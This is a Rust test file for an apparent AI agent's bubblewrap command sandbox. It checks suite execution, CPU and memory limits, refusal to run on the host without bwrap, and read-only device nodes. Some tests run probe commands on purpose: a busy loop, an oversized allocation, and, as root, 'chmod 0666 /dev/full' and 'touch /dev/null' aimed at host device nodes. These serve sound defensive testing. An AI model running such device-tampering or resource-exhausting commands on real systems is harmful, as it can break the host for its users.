    let wrapped = iso.wrap(&argv, &f.wt, &env, &IsolationOptions::default())?;
    Ok(run_wrapped(wrapped, Duration::from_secs(300), 64 * 1024, 0, None).await?)
}

#[tokio::test]
async fn a_python_suite_passes_inside() -> Result<()> {
    if !sandbox_ready("python_suite") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let out = run_suite(
        &f,
        &[
            ("calc.py", "def add(a, b):\n    return a + b\n"),
            ("tests/__init__.py", ""),
            (
                "tests/test_calc.py",
                "import tempfile, unittest\nfrom calc import add\n\nclass T(unittest.TestCase):\n    def test_add(self):\n        self.assertEqual(add(2, 3), 5)\n\n    def test_tmp(self):\n        with tempfile.NamedTemporaryFile() as f:\n            f.write(b'x')\n",
            ),
        ],
        "python3 -m unittest discover -s tests -t . -v",
    )
    .await?;
    ensure!(out.exit_code == Some(0), "{}", out.output);
    ensure!(out.output.contains("Ran 2 tests"), "{}", out.output);
    Ok(())
}

#[tokio::test]
async fn a_node_suite_passes_inside() -> Result<()> {
    if !sandbox_ready("node_suite") {
        return Ok(());
    }
    if Command::new("node").arg("--version").output().is_err() {
        eprintln!("SKIPPED a_node_suite_passes_inside: node is not installed");
        return Ok(());
    }
    let f = Fixture::new()?;
    let out = run_suite(
        &f,
        &[
            ("package.json", "{\"name\": \"calc\", \"type\": \"module\"}\n"),
            ("calc.js", "export const add = (a, b) => a + b;\n"),
            (
                "test/calc.test.js",
                "import { test } from 'node:test';\nimport assert from 'node:assert';\nimport { add } from '../calc.js';\ntest('adds', () => assert.strictEqual(add(2, 3), 5));\n",
            ),
        ],
        "node --test test/",
    )
    .await?;
    ensure!(out.exit_code == Some(0), "{}", out.output);
    ensure!(out.output.contains("pass 1"), "{}", out.output);
    Ok(())
}

#[tokio::test]
async fn a_rust_suite_passes_inside_offline() -> Result<()> {
    if !sandbox_ready("rust_suite") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let out = run_suite(
        &f,
        &[
            (
                "Cargo.toml",
                "[package]\nname = \"calc\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
            ),
            (
                "src/lib.rs",
                "pub fn add(a: i32, b: i32) -> i32 { a + b }\n\n#[cfg(test)]\nmod tests {\n    #[test]\n    fn adds() { assert_eq!(super::add(2, 3), 5); }\n}\n",
            ),
        ],
        "cargo test --offline --quiet",
    )
    .await?;
    ensure!(out.exit_code == Some(0), "{}", out.output);
    ensure!(out.output.contains("1 passed"), "{}", out.output);
    ensure!(f.wt.join("target").is_dir());
    Ok(())
}

#[tokio::test]
async fn cpu_time_and_address_space_are_limited() -> Result<()> {
    if !sandbox_ready("cpu_and_memory") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let spin = "python3 -c \"while True: pass\"";
    let limits = ResourceLimits {
        cpu_secs: 1,
        ..test_limits()
    };
    let started = Instant::now();
    let out = f
        .run(ExecMode::Sandbox, limits, spin, Duration::from_secs(20))
        .await?;
    ensure!(!out.timed_out && out.exit_code != Some(0), "{out:?}");
    ensure!(started.elapsed() < Duration::from_secs(10));
    // Control: without the limit the loop runs until the timeout.
    let control = f
        .run(
            ExecMode::None,
            ResourceLimits {
                cpu_secs: 0,
                ..limits
            },
            spin,
            Duration::from_secs(3),
        )
        .await?;
    ensure!(control.timed_out, "{control:?}");

    let alloc = "python3 -c \"b = bytearray(1536 * 1024 * 1024); print('ALLOCATED', len(b))\"";
    let limits = ResourceLimits {
        address_space_bytes: 512 << 20,
        ..test_limits()
    };
    let out = f
        .run(ExecMode::Sandbox, limits, alloc, Duration::from_secs(20))
        .await?;
    ensure!(
        !out.output.contains("ALLOCATED") && out.output.contains("MemoryError"),
        "{}",
        out.output
    );
    let control = f
        .run(
            ExecMode::None,
            ResourceLimits {
                address_space_bytes: 0,
                ..limits
            },
            alloc,
            Duration::from_secs(20),
        )
        .await?;
    ensure!(control.output.contains("ALLOCATED"), "{}", control.output);
    Ok(())
}

#[tokio::test]
async fn without_bwrap_the_sandbox_refuses_instead_of_running_on_the_host() -> Result<()> {
    let f = Fixture::new()?;
    let marker = f.outside.join("ran-on-host");
    let mut sandbox = f.settings(test_limits());
    sandbox.bwrap = "/nonexistent/bwrap".into();
    let settings = CommandSettings {
        allowed_commands: vec!["touch".into()],
        mode: ExecMode::Sandbox,
        sandbox,
        ..CommandSettings::default()
    };
    let policy = Arc::new(CommandPolicy::with_env(settings.clone(), f.env())?);
    let prepared = policy.prepare("touch ran", &Sandbox::new(&f.wt)?)?;
    let err = CommandExecutor::new(policy, f.wt.clone())
        .run(&prepared, None)
        .await
        .unwrap_err();
    ensure!(
        err.to_string().contains("apt-get install bubblewrap"),
        "{err}"
    );
    ensure!(!f.wt.join("ran").exists());
    let gates = foreman_agent::ProcessCommandRunner::with_env(&settings, f.env());
    let err = foreman_domain::exec::CommandRunner::run(
        &gates,
        &f.wt,
        &format!("touch {}", marker.display()),
        Duration::from_secs(5),
    )
    .await
    .unwrap_err();
    ensure!(err.message.contains("sandbox is unavailable"), "{err:?}");
    ensure!(!marker.exists());
    // Control: the same gate line with mode = "none" runs on the host.
    let none = CommandSettings {
        mode: ExecMode::None,
        ..settings
    };
    let gates = foreman_agent::ProcessCommandRunner::with_env(&none, f.env());
    foreman_domain::exec::CommandRunner::run(
        &gates,
        &f.wt,
        &format!("touch {}", marker.display()),
        Duration::from_secs(5),
    )
    .await?;
    ensure!(marker.exists());
    Ok(())
}

/// As root, `--dev` alone leaves the host's device nodes changeable from inside (control: bare
/// `bwrap --dev`); the sandbox mounts read-only binds over them, and they still work.
#[tokio::test]
async fn host_device_nodes_cannot_be_changed_and_still_work() -> Result<()> {
    if !sandbox_ready("device nodes") {
        return Ok(());
    }
    use std::os::unix::fs::MetadataExt;
    if std::fs::metadata("/proc/self")?.uid() != 0 {
        eprintln!("SKIPPED device nodes: only root owns what `--dev` binds");
        return Ok(());
    }
    let f = Fixture::new()?;
    let line = "chmod 0666 /dev/full && echo CHMODDED; touch /dev/null && echo TOUCHED; \
                echo data > /dev/null && echo WRITTEN; head -c 3 /dev/zero | wc -c";
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            line,
            Duration::from_secs(10),
        )
        .await?;
    ensure!(!out.output.contains("CHMODDED"), "{}", out.output);
    ensure!(!out.output.contains("TOUCHED"), "{}", out.output);
    ensure!(
        out.output.contains("Read-only file system"),
        "{}",
        out.output
    );
    ensure!(out.output.contains("WRITTEN"), "{}", out.output);
    ensure!(
        out.output.lines().any(|l| l.trim() == "3"),
        "{}",
        out.output
    );
    // Control: bubblewrap's own `--dev` (the same user namespace, no read-only binds).
    let bwrap = foreman_agent::isolation::find_program("bwrap");
    let control = Command::new(bwrap)
        .args([
            "--unshare-user",
            "--unshare-pid",
            "--ro-bind",
            "/",
            "/",
            "--proc",
            "/proc",
            "--dev",
            "/dev",
            "sh",
            "-c",
            line,
        ])
        .output()?;
    let control = String::from_utf8_lossy(&control.stdout);
    ensure!(
        control.contains("CHMODDED") && control.contains("TOUCHED"),
        "{control}"
    );
    Ok(())
}
